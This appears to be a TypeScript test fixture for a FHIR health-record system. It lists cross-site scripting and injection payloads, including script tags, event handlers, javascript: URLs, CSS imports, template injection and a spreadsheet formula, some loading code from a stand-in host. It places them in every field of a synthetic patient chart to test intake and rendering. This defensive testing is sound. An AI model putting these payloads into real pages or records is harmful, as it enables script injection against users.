/** A host that no page of ours may ask for anything. */
export const elsewhere = 'http://elsewhere.example';

/** What attacks browsers through texts: each would set `window.attacked`, open a dialog or load from elsewhere. */
export const hostileTexts = [
  '<script>window.attacked=1</script>',
  `<script src="${elsewhere}/s.js"></script>`,
  `<img src="${elsewhere}/a.png" onerror="window.attacked=1">`,
  `<img src=x srcset="${elsewhere}/a2.png 1x" onerror=window.attacked=1>`,
  `"><svg onload="window.attacked=1"><image href="${elsewhere}/b.svg"/></svg>`,
  `'-alert(1)-'"><svg><animate onbegin="window.attacked=1" attributeName="x" dur="1s"/></svg>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<iframe src="javascript:parent.attacked=1"></iframe>`,
  `<a href="javascript:window.attacked=1">打开</a>`,
  `<a href="java&#10;script:window.attacked=1">打开</a><a href="data:text/html,<script>opener.attacked=1</script>">看</a>`,
  `</style><style>@import "${elsewhere}/c.css";*{background:url(${elsewhere}/c2.png)}</style>`,
  `<p style="background-image:url('${elsewhere}/c3.png')">甲</p>`,
  `<link rel="stylesheet" href="${elsewhere}/c4.css"><link rel="prefetch" href="${elsewhere}/c5">`,
  `<object data="${elsewhere}/d"></object><embed src="${elsewhere}/d2"><base href="${elsewhere}/">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/e">`,
  `<video src="${elsewhere}/v.mp4" onerror="window.attacked=1"></video><audio src="${elsewhere}/v.mp3"></audio>`,
  `<form action="${elsewhere}/f"><input autofocus onfocus="window.attacked=1"><button>提交</button></form>`,
  '<details open ontoggle="window.attacked=1">',
  '<marquee onstart="window.attacked=1">乙</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=window.attacked=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.attacked=1&gt;">',
  `{{constructor.constructor('window.attacked=1')()}}\${window.attacked=1}<%= window.attacked=1 %>`,
  '</script><script>window.attacked=1</script>\u2028\u2029',
  '</textarea></title></main><script>window.attacked=1</script>',
  `=HYPERLINK("${elsewhere}/x","点这里")<img src=x onerror=window.attacked=1>`,
  '\u202egnp.exe\u202c<b onmouseover="window.attacked=1" style="position:fixed;inset:0">丙</b>',
] as const;

type Person = { name: string; idNumber: string; birthDate: string; sex: string };
const text = (i: number) => hostileTexts[i % hostileTexts.length] as string;

/** A record in which every text is an attack; `refused` is what the intake does not take: a script in a narrative. */
export function hostileChart(mark: string, person: Person) {
  const subject = { reference: `Patient/x-${mark}` };
  const encounter = { reference: `Encounter/x-${mark}` };
  const at = '2026-11-02T08:00:00+08:00';
  const each = (resourceType: string, make: (i: number) => object) =>
    hostileTexts.map((_, i) => ({
      ...{ resourceType, id: `x${i}-${mark}`, subject, encounter },
      ...make(i),
    }));
  const narrative = (inner: string) => ({
    text: { status: 'generated', div: `<div xmlns="http://www.w3.org/1999/xhtml">${inner}</div>` },
  });
  const result = { status: 'final', effectiveDateTime: at };
  const taken = [
    {
      resourceType: 'Patient',
      id: `x-${mark}`,
      identifier: [{ system: 'https://huimin.example/fhir/sid/id-number', value: person.idNumber }],
      name: [{ text: person.name }],
      gender: person.sex,
      birthDate: person.birthDate,
      address: [{ text: text(3) }],
    },
    {
      resourceType: 'Encounter',
      id: `x-${mark}`,
      status: 'finished',
      class: { code: 'AMB' },
      subject,
      period: { start: at, end: at },
      serviceType: { text: text(2) },
      reasonCode: [{ text: text(4) }],
    },
    ...each('Condition', (i) => ({ code: { text: text(i) }, recordedDate: at })),
    ...each('Observation', (i) => ({
      ...result,
      code: { text: text(i) },
      ...(i % 2 ? { valueString: text(i + 1) } : { valueQuantity: { value: 1, unit: text(i + 1) } }),
      ...narrative(`<img src="${elsewhere}/n.png" alt="" /><p style="background:url(${elsewhere}/n2.png)">甲</p>`),
    })),
    ...each('MedicationRequest', (i) => ({
      ...{ status: 'active', intent: 'order', authoredOn: at },
      medicationCodeableConcept: { text: text(i) },
      dosageInstruction: [{ text: text(i + 1) }],
    })),
    ...each('DiagnosticReport', (i) => ({ ...result, code: { text: text(i) }, conclusion: text(i + 1) })),
    ...hostileTexts.map((one, i) => ({
      ...{ resourceType: 'AllergyIntolerance', id: `x${i}-${mark}`, patient: subject, recordedDate: at },
      clinicalStatus: { coding: [{ code: 'active' }] },
      code: { text: one },
      reaction: [{ manifestation: [{ text: text(i + 1) }] }],
    })),
    ...hostileTexts.map((one, i) => ({
      ...{ resourceType: 'Immunization', id: `x${i}-${mark}`, status: 'completed', patient: subject },
      vaccineCode: { text: one },
      occurrenceDateTime: at,
      lotNumber: text(i + 1),
    })),
    ...hostileTexts.map((one, i) => ({
      ...{ resourceType: 'DocumentReference', id: `x${i}-${mark}`, status: 'current', subject, date: at },
      type: { text: one },
      content: [
        {
          attachment: {
            contentType: i % 2 ? 'text/html' : text(i + 3),
            title: text(i + 1),
            url: i % 2 ? `${elsewhere}/doc` : 'javascript:window.attacked=1',
            data: Buffer.from(text(i + 2)).toString('base64'),
          },
        },
      ],
    })),
  ];
  const refused = {
    ...{ resourceType: 'Observation', id: `refused-${mark}`, subject, ...result },
    code: { text: text(0) },
    valueString: text(1),
    ...narrative(text(0)),
  };
  return { taken, refused };
}
